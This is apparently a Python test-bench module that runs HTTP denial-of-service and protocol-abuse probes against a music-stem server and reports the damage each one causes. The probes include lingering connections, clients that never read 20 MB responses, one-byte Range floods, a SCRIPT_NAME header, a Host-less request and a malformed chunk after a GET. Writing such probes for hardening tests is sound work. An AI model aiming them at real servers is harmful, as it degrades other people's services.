"""Connections that stay, readers that do not read, and malformed HTTP."""

import socket
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack

from bench.attacks.target import MIB, SONG_ID, Attack, Target, head_of, receive, status_of


def linger(target: Target) -> str:
    with ExitStack() as stack:
        for _ in range(10):
            client = stack.enter_context(target.connect())
            client.sendall(head_of("/healthz", headers="Connection: close\r\n").encode())
        time.sleep(0.3)
        started = time.monotonic()
        target.get("/healthz")
        waited_s = time.monotonic() - started
    return f"another request takes {waited_s:.1f} s"


def read_nothing(target: Target) -> str:
    before = target.resident_bytes()
    with ExitStack() as stack:
        for _ in range(30):
            client = stack.enter_context(target.connect())
            client.sendall(head_of(f"/apiv1/track/{SONG_ID}/drums.mp3").encode())
            client.recv(13, socket.MSG_WAITALL)
        grown = target.resident_bytes() - before
    return f"+{grown / MIB:.0f} MiB"


def ask_for_ranges(target: Target) -> str:
    before = target.written_bytes()
    with ThreadPoolExecutor(16) as threads:
        list(
            threads.map(
                lambda at: target.get(f"/apiv1/track/{SONG_ID}/bass.mp3", Range=f"bytes={at}-{at}"), range(16)
            )
        )
    return f"{(target.written_bytes() - before) / 1e6:.0f} MB written"


def send_script_name(target: Target) -> str:
    head = head_of("/healthz", headers="SCRIPT_NAME: /x\r\nConnection: close\r\n")
    return status_of(target.send_raw(head))


def send_no_host(target: Target) -> str:
    return status_of(target.send_raw("GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n"))


def break_a_chunk(target: Target) -> str:
    """The chunk follows after the answer. A second answer would belong to no request."""
    with target.connect() as connection:
        connection.sendall(head_of("/healthz", headers="Transfer-Encoding: chunked\r\n").encode())
        answers = connection.recv(65536)
        connection.sendall(b"not a chunk\r\n")
        answers += receive(connection)
    return f"answers: {answers.count(b'HTTP/1.1 ')}"


ATTACKS = (
    Attack(row=1, damage="10 clients linger", run=linger),
    Attack(row=2, damage="30 clients read nothing of a stem of 20 MB", run=read_nothing),
    Attack(row=2, damage="16 ranges of one byte of a stem of 20 MB", run=ask_for_ranges),
    Attack(row=6, damage="header `SCRIPT_NAME`", run=send_script_name),
    Attack(row=6, damage="HTTP/1.1 without Host", run=send_no_host),
    Attack(row=6, damage="a broken chunk after a GET", run=break_a_chunk),
)
